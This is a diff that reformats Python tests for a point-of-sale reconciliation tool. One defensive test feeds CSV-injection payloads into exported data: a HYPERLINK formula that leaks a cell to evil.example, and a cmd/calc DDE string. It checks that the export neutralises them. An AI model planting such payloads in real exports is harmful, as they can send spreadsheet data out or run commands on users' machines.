@@ -21,7 +21,7 @@ from tests.support.broker import wait_for
 from tests.support.rig import Rig
 
 
-def _drained(rig: Rig) -> None:  # noqa: F811
+def _drained(rig: Rig) -> None:
     wait_for(lambda: unacked(rig) == 0, "every event at the host")
 
 
@@ -30,7 +30,7 @@ def _today() -> str:
 
 
 @pytest.mark.slow
-def test_a_clean_day_agrees_then_differences_show(rig: Rig, host: Host) -> None:  # noqa: F811
+def test_a_clean_day_agrees_then_differences_show(rig: Rig, host: Host) -> None:
     # GIVEN a day of sales, a refund, a void and the end of day
     code, sale = rig.cli("sale", "40.00")
     assert code == 0
@@ -73,8 +73,9 @@ def test_a_clean_day_agrees_then_differences_show(rig: Rig, host: Host) -> None:
     # WHEN a sale's event is deleted from the host's store by hand
     db = sqlite3.connect(host.db)
     with db:
-        db.execute("DELETE FROM events WHERE type = 'sale.approved' AND txn_id = ?",
-                   (sale["txn_id"],))  # fmt: skip
+        db.execute(
+            "DELETE FROM events WHERE type = 'sale.approved' AND txn_id = ?", (sale["txn_id"],)
+        )
     db.close()
     code, text = host.cli("reconcile", "--date", _today(), "--csv")
     assert code == 1
@@ -82,16 +83,21 @@ def test_a_clean_day_agrees_then_differences_show(rig: Rig, host: Host) -> None:
     first = [r for r in table if r["batch"] == "1"]
     sales = next(r for r in first if r["figure"] == "sales")
     assert (sales["events_count"], sales["terminal_count"], sales["difference"]) == (
-        "2", "3", "DIFFERS")  # fmt: skip
+        "2",
+        "3",
+        "DIFFERS",
+    )
     missing = next(r for r in first if r["figure"] == "events_missing")
     assert sale["txn_id"] in missing["difference"]
     code, alerts = host.cli("alerts", "--open", "--json")
     assert {a["subject"] for a in alerts if a["kind"] == "reconcile_mismatch"} == {
-        "batch 1", "batch 2"}  # fmt: skip
+        "batch 1",
+        "batch 2",
+    }
 
 
 @pytest.mark.slow
-def test_bad_input_is_refused(rig: Rig, host: Host) -> None:  # noqa: F811
+def test_bad_input_is_refused(rig: Rig, host: Host) -> None:
     code, out = host.cli("reconcile", "--date", "29.11.2026", "--json")
     assert code == 2 and out["code"] == "bad_request"
     code, out = host.cli("reconcile", "--terminal", "pos-nobody", "--json")
@@ -106,8 +112,12 @@ def test_amounts_of_the_events(text: str, minor: int) -> None:
 
 
 def _env(type_: str, at: str, **data: object) -> dict[str, object]:
-    return {"type": type_, "seq": int(at), "occurred_at": f"2026-11-29T10:00:{at}.000Z",
-            "data": data}  # fmt: skip
+    return {
+        "type": type_,
+        "seq": int(at),
+        "occurred_at": f"2026-11-29T10:00:{at}.000Z",
+        "data": data,
+    }
 
 
 def test_a_sale_approved_then_in_doubt_then_recovered_is_booked_once() -> None:
@@ -123,8 +133,15 @@ def test_a_sale_approved_then_in_doubt_then_recovered_is_booked_once() -> None:
         _env("sale.in_doubt", "05", txn_id="T2", amount="9.00", **sale),
         _env("sale.recovered", "06", txn_id="T2", amount="9.00", state="reversed", **sale),
     ]
-    close = _env("batch.closed", "07", batch_no=1, currency="EUR", sales="31.00",
-                 sales_count=1, pt_total="31.00")  # fmt: skip
+    close = _env(
+        "batch.closed",
+        "07",
+        batch_no=1,
+        currency="EUR",
+        sales="31.00",
+        sales_count=1,
+        pt_total="31.00",
+    )
     row = reconcile._batch("pos-a", close, [*history, close], None)
     assert row["events"]["sales"] == "31.00" and row["events"]["sales_count"] == 1
     assert row["ok"], row["differences"]
@@ -135,14 +152,37 @@ def test_a_sale_approved_then_recovered_counts_once(tmp_path: Path) -> None:
     (three events about one sale) WHEN the day is reconciled THEN it is one sale."""
     store = Store(f"sqlite://{tmp_path / 'host.db'}")
     sale = {"txn_id": "TSALE1", "amount": "33.00", "currency": "EUR", "batch_no": 1}
-    steps = [("sale.approved", sale), ("sale.in_doubt", {"txn_id": "TSALE1"}),
-             ("sale.recovered", {**sale, "state": "approved"}),
-             ("batch.closed", {"txn_id": "TEOD1", "batch_no": 1, "currency": "EUR",
-                               "sales": "33.00", "sales_count": 1, "pt_total": "33.00"})]
+    steps = [
+        ("sale.approved", sale),
+        ("sale.in_doubt", {"txn_id": "TSALE1"}),
+        ("sale.recovered", {**sale, "state": "approved"}),
+        (
+            "batch.closed",
+            {
+                "txn_id": "TEOD1",
+                "batch_no": 1,
+                "currency": "EUR",
+                "sales": "33.00",
+                "sales_count": 1,
+                "pt_total": "33.00",
+            },
+        ),
+    ]
     try:
-        store.ingest([{"v": 1, "event_id": uuid7(), "terminal": TID, "seq": n,
-                       "type": kind, "occurred_at": now_rfc3339(), "data": data}
-                      for n, (kind, data) in enumerate(steps, start=1)])  # fmt: skip
+        store.ingest(
+            [
+                {
+                    "v": 1,
+                    "event_id": uuid7(),
+                    "terminal": TID,
+                    "seq": n,
+                    "type": kind,
+                    "occurred_at": now_rfc3339(),
+                    "data": data,
+                }
+                for n, (kind, data) in enumerate(steps, start=1)
+            ]
+        )
         (day,) = reconcile.reconcile(store, day=datetime.now(UTC).date())
         assert day["events"]["sales_count"] == 1 and day["events"]["sales"] == "33.00"
         assert day["ok"], day["differences"]
@@ -157,13 +197,37 @@ def test_a_void_recovery_found_not_kept_settles_its_doubt_and_books_nothing() ->
     sale = {"currency": "EUR", "batch_no": 1}
     history = [
         _env("sale.approved", "01", txn_id="T1", kind="sale", amount="40.00", **sale),
-        _env("void.in_doubt", "02", txn_id="V1", kind="void", amount="40.00", ref_txn="T1",
-             state="in_doubt", **sale),
-        _env("void.completed", "03", txn_id="V1", kind="void", amount="40.00", ref_txn="T1",
-             state="not_charged", outcome="not_charged", **sale),
-    ]  # fmt: skip
-    close = _env("batch.closed", "04", batch_no=1, currency="EUR", sales="40.00",
-                 sales_count=1, pt_total="40.00")  # fmt: skip
+        _env(
+            "void.in_doubt",
+            "02",
+            txn_id="V1",
+            kind="void",
+            amount="40.00",
+            ref_txn="T1",
+            state="in_doubt",
+            **sale,
+        ),
+        _env(
+            "void.completed",
+            "03",
+            txn_id="V1",
+            kind="void",
+            amount="40.00",
+            ref_txn="T1",
+            state="not_charged",
+            outcome="not_charged",
+            **sale,
+        ),
+    ]
+    close = _env(
+        "batch.closed",
+        "04",
+        batch_no=1,
+        currency="EUR",
+        sales="40.00",
+        sales_count=1,
+        pt_total="40.00",
+    )
     row = reconcile._batch("pos-a", close, [*history, close], None)
     assert (row["events"]["voids_count"], row["events"]["sales"]) == (0, "40.00")
     assert row["ok"], row["differences"]
@@ -172,16 +236,36 @@ def test_a_void_recovery_found_not_kept_settles_its_doubt_and_books_nothing() ->
 def test_a_refund_told_completed_then_found_not_kept_is_not_booked() -> None:
     """GIVEN a refund told completed at its commit (approved_unconfirmed) that recovery then
     found not kept by the PT (refund.failed) THEN the day books no refund."""
-    data = {"txn_id": "R1", "kind": "refund", "amount": "12.00", "currency": "EUR",
-            "batch_no": 1, "ref_txn": "T1"}  # fmt: skip
+    data = {
+        "txn_id": "R1",
+        "kind": "refund",
+        "amount": "12.00",
+        "currency": "EUR",
+        "batch_no": 1,
+        "ref_txn": "T1",
+    }
     history = [
-        _env("sale.approved", "01", txn_id="T1", kind="sale", amount="40.00", currency="EUR",
-             batch_no=1),
+        _env(
+            "sale.approved",
+            "01",
+            txn_id="T1",
+            kind="sale",
+            amount="40.00",
+            currency="EUR",
+            batch_no=1,
+        ),
         _env("refund.completed", "02", **{**data, "state": "approved_unconfirmed"}),
         _env("refund.failed", "03", **{**data, "state": "not_charged", "outcome": "not_charged"}),
-    ]  # fmt: skip
-    close = _env("batch.closed", "04", batch_no=1, currency="EUR", sales="40.00",
-                 sales_count=1, pt_total="40.00")  # fmt: skip
+    ]
+    close = _env(
+        "batch.closed",
+        "04",
+        batch_no=1,
+        currency="EUR",
+        sales="40.00",
+        sales_count=1,
+        pt_total="40.00",
+    )
     row = reconcile._batch("pos-a", close, [*history, close], None)
     assert row["events"]["refunds_count"] == 0
     assert row["ok"], row["differences"]
@@ -192,18 +276,46 @@ def test_the_csv_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
     = + - @ tab or CR (OWASP CSV injection) WHEN the day goes out as CSV THEN each such
     cell starts with a ' (text, never run), and a negative net stays a number."""
     store = Store(f"sqlite://{tmp_path / 'host.db'}")
-    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]
-    close = {"txn_id": "TEOD1", "batch_no": evil[0], "currency": "EUR", "sales": "0.00",
-             "sales_count": 0, "refunds": "5.00", "refunds_count": 1}
-    steps = [("refund.requested", {"txn_id": evil[1], "amount": "5.00", "currency": "EUR"}),
-             ("sale.in_doubt", {"txn_id": evil[2]}), ("sale.in_doubt", {"txn_id": evil[3]}),
-             ("sale.in_doubt", {"txn_id": evil[4]}), ("sale.in_doubt", {"txn_id": evil[5]}),
-             ("batch.closed", close)]  # fmt: skip
+    evil = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tTAB",
+        "\rCR",
+    ]
+    close = {
+        "txn_id": "TEOD1",
+        "batch_no": evil[0],
+        "currency": "EUR",
+        "sales": "0.00",
+        "sales_count": 0,
+        "refunds": "5.00",
+        "refunds_count": 1,
+    }
+    steps = [
+        ("refund.requested", {"txn_id": evil[1], "amount": "5.00", "currency": "EUR"}),
+        ("sale.in_doubt", {"txn_id": evil[2]}),
+        ("sale.in_doubt", {"txn_id": evil[3]}),
+        ("sale.in_doubt", {"txn_id": evil[4]}),
+        ("sale.in_doubt", {"txn_id": evil[5]}),
+        ("batch.closed", close),
+    ]
     try:
-        store.ingest([{"v": 1, "event_id": uuid7(), "terminal": TID, "seq": n,
-                       "type": kind, "occurred_at": now_rfc3339(), "data": data}
-                      for n, (kind, data) in enumerate(steps, start=1)])  # fmt: skip
+        store.ingest(
+            [
+                {
+                    "v": 1,
+                    "event_id": uuid7(),
+                    "terminal": TID,
+                    "seq": n,
+                    "type": kind,
+                    "occurred_at": now_rfc3339(),
+                    "data": data,
+                }
+                for n, (kind, data) in enumerate(steps, start=1)
+            ]
+        )
         text = reconcile.to_csv(reconcile.reconcile(store, day=datetime.now(UTC).date()))
     finally:
         store.close()
@@ -235,18 +347,38 @@ def test_a_terminal_that_sold_and_never_closed_the_day_is_no_agreement(
 
     try:
         ev("pos-c", "sale.approved", "08:00:00", txn_id="C0", amount="1.00", **sale)
-        ev("pos-c", "batch.closed", "08:10:00", txn_id="CE", batch_no=1, currency="EUR",
-           sales="1.00", sales_count=1, pt_total="1.00")  # fmt: skip
+        ev(
+            "pos-c",
+            "batch.closed",
+            "08:10:00",
+            txn_id="CE",
+            batch_no=1,
+            currency="EUR",
+            sales="1.00",
+            sales_count=1,
+            pt_total="1.00",
+        )
         for n, amount in enumerate(("300.00", "250.00", "200.00")):
             ev("pos-a", "sale.approved", f"1{n}:00:00", txn_id=f"A{n}", amount=amount, **sale)
         ev("pos-b", "sale.approved", "10:00:00", txn_id="B1", amount="5.00", **sale)
-        ev("pos-b", "batch.closed", "18:00:00", txn_id="BE", batch_no=1, currency="EUR",
-           sales="5.00", sales_count=1, pt_total="5.00")  # fmt: skip
+        ev(
+            "pos-b",
+            "batch.closed",
+            "18:00:00",
+            txn_id="BE",
+            batch_no=1,
+            currency="EUR",
+            sales="5.00",
+            sales_count=1,
+            pt_total="5.00",
+        )
     finally:
         store.close()
     config = tmp_path / "host.toml"
-    config.write_text(f'[host]\nid = "hq"\n[mqtt]\nurl = "mqtt://127.0.0.1:1"\n'
-                      f'[store]\nurl = "sqlite://{tmp_path / "host.db"}"\n')  # fmt: skip
+    config.write_text(
+        f'[host]\nid = "hq"\n[mqtt]\nurl = "mqtt://127.0.0.1:1"\n'
+        f'[store]\nurl = "sqlite://{tmp_path / "host.db"}"\n'
+    )
 
     def run(*args: str) -> tuple[int, str]:
         code = cli.main(["--config", str(config), "reconcile", "--date", "2026-11-20", *args])
@@ -266,6 +398,9 @@ def test_a_terminal_that_sold_and_never_closed_the_day_is_no_agreement(
     code, out = run("--json")
     assert code == 1
     assert [(r["terminal"], r["batch_no"], r["ok"]) for r in json.loads(out)] == [
-        ("pos-a", None, False), ("pos-b", 1, True), ("pos-c", 1, True)]  # fmt: skip
+        ("pos-a", None, False),
+        ("pos-b", 1, True),
+        ("pos-c", 1, True),
+    ]
     code, out = run("--csv")
     assert code == 1 and "never_closed" in out
